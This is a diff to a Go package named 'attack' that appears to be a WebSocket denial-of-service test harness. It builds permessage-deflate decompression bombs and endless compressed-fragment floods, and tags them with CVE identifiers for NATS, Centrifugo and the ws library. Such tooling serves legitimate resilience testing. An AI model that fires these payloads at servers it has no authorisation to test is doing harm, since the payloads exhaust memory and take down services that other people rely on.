@@ -3,14 +3,12 @@ package attack
 import (
 	"bytes"
 	"compress/flate"
-	"errors"
 	"fmt"
-	"net/http"
 	"strings"
 )
 
 // compressing are the ways on which messages may be compressed (RFC 7692).
-var compressing = []Way{ws4, ws3}
+var compressing = []Way{ws4, ws3, up4, up3, wss4}
 
 const offerDeflate = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits"
 
@@ -32,19 +30,12 @@ func deflated(message string) string {
 
 // agreed opens a WebSocket whose messages may be compressed.
 func (a *Attacker) agreed(w Way) (*conn, error) {
-	c, err := a.dial(w)
+	c, err := a.webSocket(w, offerDeflate)
 	if err != nil {
 		return nil, err
 	}
-	if err := c.say(upgrade(w.Path, offerDeflate)); err != nil {
-		return nil, err
-	}
-	resp, err := http.ReadResponse(c.in, nil)
-	if err != nil {
-		return nil, fmt.Errorf("no WebSocket: %w", err)
-	}
-	if got := resp.Header.Get("Sec-WebSocket-Extensions"); resp.StatusCode != http.StatusSwitchingProtocols || !strings.HasPrefix(got, "permessage-deflate") {
-		return nil, errors.Join(fmt.Errorf("no WebSocket that compresses: %s, %q", resp.Status, got), resp.Body.Close())
+	if got := c.agreed.Get("Sec-WebSocket-Extensions"); !strings.HasPrefix(got, "permessage-deflate") {
+		return nil, fmt.Errorf("no WebSocket that compresses: %q", got)
 	}
 	return c, nil
 }
@@ -83,7 +74,7 @@ func bombs() []Family {
 	event := `42["x","` + strings.Repeat("0", maxPayload-100) + `"]`
 	whole := func(payload string) []byte { return frame(pressed|finText, payload) }
 	return []Family{
-		{"messages that unfold", "inflate bombs, RFC 7692; ws maxPayload", compressing, []Input{
+		{"messages that unfold", "inflate bombs, RFC 7692; NATS CVE-2026-27571, Centrifugo CVE-2026-62963", compressing, []Input{
 			explodes("a thousandfold, within the limit", false, 30, 1000, whole(deflated(event))),
 			explodes("a thousandfold, over the limit", true, 1, 1, whole(deflated("4"+strings.Repeat(" ", 4<<20)))),
 			explodes("twenty megabytes", true, 1, 1, whole(huge)),
@@ -96,7 +87,7 @@ func bombs() []Family {
 			explodes("with codes of their own", true, 1, 20, whole(strings.Repeat(codes+"\x00\x00\xff\xff", 900_000/(len(codes)+4))+"\x00")),
 			explodes("more bytes of them than a message may have", true, 1, 1, announce(pressed|finText, 2*maxPayload)),
 		}},
-		{"compressed fragments without end", "ws, memory exhaustion by tiny fragments", compressing, []Input{
+		{"compressed fragments without end", "ws CVE-2026-48779, CVE-2026-62389", compressing, []Input{
 			explodes("of one byte", false, 16_000, 900_000, frame(pressed|text, deflated(event)[:100]), frame(more, "\x00")),
 			explodes("of no byte", false, 16_000, 2_000_000, frame(pressed|text, deflated(event)[:100]), frame(more, "")),
 			{"on many connections", func(a *Attacker, w Way) error {
